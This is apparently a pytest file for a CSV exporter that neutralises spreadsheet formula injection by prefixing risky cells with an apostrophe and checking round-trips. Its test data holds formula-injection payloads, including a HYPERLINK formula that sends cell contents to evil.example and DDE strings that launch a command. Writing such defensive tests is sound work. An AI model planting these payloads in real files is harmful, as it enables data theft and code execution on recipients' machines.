"""Posts that begin like a formula: no spreadsheet runs them, and they come back as they were."""

import csv
from datetime import UTC, datetime

import polars as pl
import pyarrow as pa
import pytest

from undertow.exporters import all_exporters
from undertow.intake.export import open_export
from undertow.model.cells import guarded, unguarded

RUN = [
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''@name says",
    "- an item of a list",
]
LEFT = ["-1001234567890", "+33 is written 33", "-5", "+1,5", "a=b", "'quoted'", "", "”=1", None]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def column(texts):
    return pa.chunked_array([pa.array(texts, pa.string())])


def test_what_would_run_gets_an_apostrophe_and_comes_back():
    cells = guarded(column(RUN))
    assert all(cell == "'" + text for cell, text in zip(cells.to_pylist(), RUN, strict=True))
    assert unguarded(cells).to_pylist() == RUN


def test_numbers_and_what_nobody_runs_stay():
    stays = [text for text in LEFT if text != "+33 is written 33"]
    assert guarded(column(stays)).to_pylist() == stays
    assert unguarded(guarded(column(LEFT))).to_pylist() == LEFT


@pytest.fixture
def exported(new_case, tmp_path):
    case = new_case()
    posts = case.table("posts").to_pylist()
    for post, text in zip(posts, RUN, strict=False):
        post |= {"text": text, "account_name": text, "hashtags": [text.strip(), "b"]}
        post |= {"created_at_raw": "1769990400", "account_id": "-1001234567890"}
    case._tables["posts"] = pa.Table.from_pylist(posts, case.table("posts").schema)
    all_exporters()["csv"].write(case, tmp_path)
    return case, tmp_path


def test_no_cell_of_an_exported_table_runs(exported):
    _, folder = exported
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    number = cell.lstrip("+-").replace(".", "").replace("e", "").isalnum()
                    assert number or not cell.startswith(BEGINS), (path.name, cell)


def test_a_number_stays_a_number(exported):
    _, folder = exported
    posts = pl.read_csv(folder / "posts.csv", infer_schema_length=None)
    assert posts["source_line"].dtype == pl.Int64
    assert posts["account_id"][0] == "-1001234567890"
    copies = pl.read_csv(folder / "copies.csv", infer_schema_length=None)
    assert copies["lag_s"].dtype == pl.Float64


def test_our_own_reader_takes_it_off_again(exported):
    case, folder = exported
    export = open_export(folder / "posts.csv", sha256="0" * 64)
    back = pa.concat_tables([chunk.posts for chunk in export.chunks()])
    told = {row["post_id"]: row for row in case.table("posts").to_pylist()}
    for row in back.to_pylist():
        assert row["text"] == told[row["post_id"]]["text"]
        assert row["account_name"] == told[row["post_id"]]["account_name"]


def test_what_others_write_keeps_its_apostrophes(tmp_path):
    path = tmp_path / "posts.csv"
    at = datetime(2026, 2, 1, tzinfo=UTC).isoformat()
    path.write_text(f"post_id,account_id,created_at,text\n1,a,{at},'=1 is what he wrote\n")
    (chunk,) = open_export(path, sha256="0" * 64).chunks()
    assert chunk.posts["text"].to_pylist() == ["'=1 is what he wrote"]


def test_parquet_is_left_as_it_is(exported, tmp_path):
    case, _ = exported
    all_exporters()["parquet"].write(case, tmp_path / "p")
    assert pl.read_parquet(tmp_path / "p" / "posts.parquet")["text"][0] == RUN[0]
